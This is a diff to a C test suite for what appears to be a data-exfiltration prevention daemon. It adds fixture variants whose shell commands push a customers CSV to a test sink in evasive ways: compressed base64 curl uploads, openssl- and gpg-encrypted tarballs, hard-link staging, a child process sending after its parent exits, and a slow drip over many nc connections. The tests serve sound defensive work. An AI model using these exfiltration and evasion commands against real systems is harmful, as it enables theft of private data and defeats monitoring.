@@ -952,7 +952,12 @@ static int any_sink_start(struct testhost *th, struct any_sink *as)
 {
 	int64_t ready;
 
-	if (pipe(as->stop) || pipe(as->result))
+	/*
+	 * Not inherited across exec: a daemon restarted meanwhile, or an
+	 * agent a tool leaves behind (gpg's), would hold the stop pipe open
+	 * and the sink would never hear it close.
+	 */
+	if (pipe2(as->stop, O_CLOEXEC) || pipe2(as->result, O_CLOEXEC))
 		return -1;
 	as->pid = testhost_spawn(th, any_sink_serve, as);
 	close(as->result[1]);
@@ -977,6 +982,36 @@ static int64_t any_sink_stop(struct any_sink *as)
 	return total;
 }
 
+/*
+ * Once the store holds the derived mark of path, restart the daemon as
+ * systemd would (an orderly stop empties the sensor's tables): 0 or -1.
+ */
+static int restart_when_stored(struct world *e, const char *path)
+{
+	char sql[256];
+	const char *const args[] = { "query", sql, NULL };
+	int i, stored = 0;
+
+	snprintf(sql, sizeof(sql),
+		 "SELECT count(*) FROM derived WHERE path = '%s' AND "
+		 "taint = %ld", path, e->csv_size);
+	for (i = 0; i < 100 && !stored; i++) {
+		struct json_object *res = ctl_json(e->sock, args), *rows;
+
+		stored = res && json_object_object_get_ex(res, "rows", &rows) &&
+			 json_object_array_length(rows) == 1 &&
+			 json_object_get_int64(json_object_array_get_idx(
+				json_object_array_get_idx(rows, 0), 0)) == 1;
+		json_object_put(res);
+		if (!stored)
+			usleep(100000);
+	}
+	if (!stored || daemon_stop(e->daemon))
+		return -1;
+	e->daemon = daemon_start(e->conf, e->sock, e->log);
+	return e->daemon > 0 ? 0 : -1;
+}
+
 FIXTURE(corpus) {
 	struct world e;
 };
@@ -989,6 +1024,9 @@ FIXTURE(corpus) {
 FIXTURE_VARIANT(corpus) {
 	const char *tools;
 	const char *cmd;
+	const char *staged;	/* a file cmd stages: once the store has its
+				 * mark, the daemon restarts */
+	const char *then;	/* a format like cmd, run after that */
 };
 
 #define CURL_TO	"curl -sS -f --noproxy '*' -o /dev/null --data-binary "
@@ -1003,11 +1041,34 @@ FIXTURE_VARIANT_ADD(corpus, gzip_base64_curl) {
 	.cmd = "gzip -c %1$s | base64 | " CURL_TO "@- http://%2$s:%3$d/",
 };
 
+/* the database made from the table is derived data, all of it */
+FIXTURE_VARIANT_ADD(corpus, sqlite3_dump_gzip_base64_curl) {
+	.tools = "sqlite3 gzip base64 curl",
+	.cmd = "sqlite3 %4$s/crm.db '.import --csv %1$s customers' && "
+	       "sqlite3 %4$s/crm.db .dump | gzip | base64 | " CURL_TO
+	       "@- http://%2$s:%3$d/",
+};
+
 FIXTURE_VARIANT_ADD(corpus, tarball_encrypted_with_openssl_uploaded) {
 	.tools = "tar gzip openssl curl",
 	.cmd = "cd %4$s && tar czf x.tgz -C $(dirname %1$s) customers.csv && "
 	       "openssl enc -aes-256-cbc -pbkdf2 -pass pass:hunter2 -in x.tgz "
 	       "-out x.enc && " CURL_TO "@x.enc http://%2$s:%3$d/",
+};
+
+/*
+ * gpg starts an agent even for --symmetric, which forks away from what
+ * started it (--no-detach or not): ended by its command line, unique to
+ * this test's folder.
+ */
+FIXTURE_VARIANT_ADD(corpus, tarball_encrypted_with_gpg_uploaded) {
+	.tools = "tar gzip gpg gpg-agent curl pkill",
+	.cmd = "mkdir -m 700 %4$s/g && cd %4$s && "
+	       "tar czf x.tgz -C $(dirname %1$s) customers.csv && "
+	       "gpg --homedir %4$s/g --batch --yes --quiet "
+	       "--pinentry-mode loopback --passphrase hunter2 --symmetric "
+	       "-o x.gpg x.tgz && " CURL_TO "@x.gpg http://%2$s:%3$d/; "
+	       "pkill -f 'gpg-agent --homedir %4$s/g'",
 };
 
 FIXTURE_VARIANT_ADD(corpus, copy_uploaded_from_another_session) {
@@ -1022,10 +1083,37 @@ FIXTURE_VARIANT_ADD(corpus, staged_copy_moved_then_uploaded) {
 	       CURL_TO "@%4$s/holiday.jpg http://%2$s:%3$d/",
 };
 
+/* the new daemon knows the staged copy from the store only */
+FIXTURE_VARIANT_ADD(corpus, copy_staged_before_a_daemon_restart) {
+	.tools = "cp curl",
+	.cmd = "cp %1$s %4$s/notes.txt",
+	.staged = "notes.txt",
+	.then = CURL_TO "@%4$s/notes.txt http://%2$s:%3$d/",
+};
+
+FIXTURE_VARIANT_ADD(corpus, staged_copy_hard_linked_then_uploaded) {
+	.tools = "cp ln rm curl",
+	.cmd = "cp %1$s %4$s/notes.txt && ln %4$s/notes.txt %4$s/l.txt && "
+	       "rm %4$s/notes.txt && " CURL_TO "@%4$s/l.txt http://%2$s:%3$d/",
+};
+
 FIXTURE_VARIANT_ADD(corpus, split_chunks_uploaded_by_separate_processes) {
 	.tools = "cp split nc",
 	.cmd = "cp %1$s %4$s/db.bak && cd %4$s && split -b 256k db.bak part. "
 	       "&& for f in part.*; do nc -N %2$s %3$d < $f; done",
+};
+
+/*
+ * bash reads the table itself (the read builtin), forks and exits; the
+ * child waits until it is adopted, then sends what it inherited. The fifo
+ * holds our shell until the child is done.
+ */
+FIXTURE_VARIANT_ADD(corpus, child_sending_after_its_reading_parent_exited) {
+	.tools = "bash mkfifo nc",
+	.cmd = "mkfifo %4$s/done && bash -c 'IFS= read -r -d \"\" d < %1$s; "
+	       "( while kill -0 $$ 2>/dev/null; do sleep 0.05; done; "
+	       "printf %%s \"$d\" | nc -N %2$s %3$d; echo > %4$s/done ) & "
+	       "exit 0' && read x < %4$s/done",
 };
 
 FIXTURE_VARIANT_ADD(corpus, relay_behind_a_unix_socket) {
@@ -1048,6 +1136,13 @@ FIXTURE_VARIANT_ADD(corpus, written_into_dev_shm_then_mapped_and_sent) {
 	       "rm -f /dev/shm/exfilmon-prevent-%6$d",
 };
 
+FIXTURE_VARIANT_ADD(corpus, mapped_into_dev_shm_then_mapped_and_sent) {
+	.tools = "",
+	.cmd = "%5$s/shm_map fill %1$s /dev/shm/exfilmon-prevent-%6$d && "
+	       "%5$s/shm_map send /dev/shm/exfilmon-prevent-%6$d %2$s %3$d; "
+	       "rm -f /dev/shm/exfilmon-prevent-%6$d",
+};
+
 FIXTURE_VARIANT_ADD(corpus, io_uring_read_and_send) {
 	.tools = "",
 	.cmd = "%5$s/uring_exfil %1$s %2$s %3$d; [ $? != 77 ] || "
@@ -1060,9 +1155,11 @@ FIXTURE_VARIANT_ADD(corpus, hex_lines_as_udp_datagrams) {
 	       "echo \"$l\" > /dev/udp/%2$s/%3$d; done'",
 };
 
-FIXTURE_VARIANT_ADD(corpus, drip_of_16k) {
+/* low and slow: 16 KiB at a time, each by a fresh dd | nc */
+FIXTURE_VARIANT_ADD(corpus, drip_over_many_connections) {
 	.tools = "dd nc",
-	.cmd = "dd if=%1$s bs=16k count=1 status=none | nc -N %2$s %3$d",
+	.cmd = "for i in 0 1 2 3 4 5 6 7; do dd if=%1$s bs=16k skip=$i "
+	       "count=1 status=none | nc -N %2$s %3$d; sleep 0.2; done",
 };
 
 FIXTURE_SETUP(corpus)
@@ -1096,6 +1193,16 @@ TEST_F_TIMEOUT(corpus, refused_and_nothing_arrives, TIMEOUT_S)
 	/* the thief's tools fail, as they should: their status is theirs */
 	if (system(cmd) < 0)
 		TH_LOG("failed to run %s", cmd);
+	if (variant->then) {
+		snprintf(marker, sizeof(marker), "%s/%s", stage,
+			 variant->staged);
+		ASSERT_EQ(0, restart_when_stored(e, marker));
+		snprintf(cmd, sizeof(cmd), variant->then, e->csv,
+			 e->th.remote4, PORT, stage, helpers,
+			 20000 + getpid() % 20000);
+		if (system(cmd) < 0)
+			TH_LOG("failed to run %s", cmd);
+	}
 	EXPECT_EQ(0, any_sink_stop(&as));
 	snprintf(marker, sizeof(marker), "%s/no-uring", stage);
 	if (!access(marker, F_OK))
